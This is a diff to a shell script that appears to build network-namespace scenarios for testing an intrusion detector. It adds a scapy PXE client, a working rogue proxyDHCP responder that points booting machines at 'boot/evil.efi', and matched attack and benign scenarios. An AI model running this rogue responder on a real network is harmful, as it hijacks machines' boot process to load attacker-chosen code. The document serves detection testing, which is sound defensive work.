@@ -4651,6 +4651,67 @@ scn_benign_irdp_gateway_answers_solicitations() {
 	irdp gw adv "$NET.1"
 	wait "$sol"
 }
+# PXE boot hijack for det43 (brief item 3): pxeclient.py (scapy) is a PXE
+# client's DISCOVER (option 60 PXEClient:Arch:00000:UNDI:002001, 93, 94,
+# 97) from the namespace's MAC, then 4 s of listening for OFFERs;
+# pxerogue.py (scapy) answers each PXE DISCOVER as a proxyDHCP naming
+# itself as boot server with its own boot file (yiaddr 0, siaddr, file,
+# option 60 PXEClient, option 43 sub-option 8).
+cat >"$tmp/pxeclient.py" <<'EOF'
+import sys, os
+from scapy.all import *
+conf.verb = 0
+mac = get_if_hwaddr("eth0")
+xid = int.from_bytes(os.urandom(4), "big")
+d = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) / \
+    BOOTP(chaddr=mac2str(mac), xid=xid, flags=0x8000) / DHCP(options=[("message-type", "discover"),
+    ("vendor_class_id", b"PXEClient:Arch:00000:UNDI:002001"), (93, b"\x00\x00"), (94, b"\x01\x02\x01"),
+    (97, b"\x00" + os.urandom(16)), ("param_req_list", [1, 3, 6, 43, 60, 66, 67]), "end"])
+for p in sniff(iface="eth0", filter="udp dst port 68", timeout=4, started_callback=lambda: sendp(d, iface="eth0")):
+    if BOOTP in p and p[BOOTP].xid == xid:
+        print("offer from", p[IP].src, "yiaddr", p[BOOTP].yiaddr, "siaddr", p[BOOTP].siaddr, "file", p[BOOTP].file.rstrip(b"\0"), flush=True)
+EOF
+cat >"$tmp/pxerogue.py" <<'EOF'
+import sys
+from scapy.all import *
+conf.verb = 0
+mac, me = get_if_hwaddr("eth0"), get_if_addr("eth0")
+def hit(p):
+    if DHCP not in p or p[BOOTP].op != 1:
+        return
+    o = dict(x for x in p[DHCP].options if isinstance(x, tuple))
+    if o.get("message-type") != 1 or not bytes(o.get("vendor_class_id", b"")).startswith(b"PXEClient"):
+        return
+    sub = b"\x06\x01\x08" + b"\x08\x07\x80\x00\x01" + socket.inet_aton(me) + b"\xff"
+    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=me, dst="255.255.255.255") / UDP(sport=67, dport=68) /
+          BOOTP(op=2, xid=p[BOOTP].xid, yiaddr="0.0.0.0", siaddr=me, chaddr=p[BOOTP].chaddr, flags=0x8000, file=b"boot/evil.efi") /
+          DHCP(options=[("message-type", "offer"), ("server_id", me), ("vendor_class_id", b"PXEClient"), ("vendor_specific", sub), "end"]), iface="eth0")
+sniff(iface="eth0", filter="udp dst port 67", prn=hit, timeout=float(sys.argv[1]))
+EOF
+pxe_proxy_up() { # the NAS's dnsmasq as the LAN's PXE proxyDHCP (no DNS, no addresses)
+	spawn nas dnsmasq -k --port=0 --interface=eth0 --bind-interfaces --dhcp-range=$NET.0,proxy \
+		--pxe-service=x86PC,"Network boot",pxelinux --dhcp-leasefile="$tmp/nas.leases"
+	sleep 1
+}
+# The gateway's dnsmasq hands out addresses, the NAS's is the PXE proxy; a
+# PXE client (pc2) boots; then evil's rogue proxy starts and a second
+# client (pc) boots, answered by both proxies with different boot services.
+scn_pxe_rogue_proxydhcp_scapy() {
+	pxe_proxy_up
+	inns pc2 "$py" "$tmp/pxeclient.py"
+	spawn evil "$py" "$tmp/pxerogue.py" 12
+	sleep 2
+	inns pc "$py" "$tmp/pxeclient.py"
+	killns evil pxerogue.py
+	killns nas dnsmasq
+}
+# The same LAN without the rogue: two PXE clients boot through the NAS's proxy.
+scn_benign_pxe_proxydhcp_two_clients() {
+	pxe_proxy_up
+	inns pc2 "$py" "$tmp/pxeclient.py"
+	inns pc "$py" "$tmp/pxeclient.py"
+	killns nas dnsmasq
+}
 all=$(declare -F | awk '{print $3}' | grep '^scn_' | sed 's/^scn_//')
 for s in ${@:-$all}; do
 	record "$s" "scn_$s"
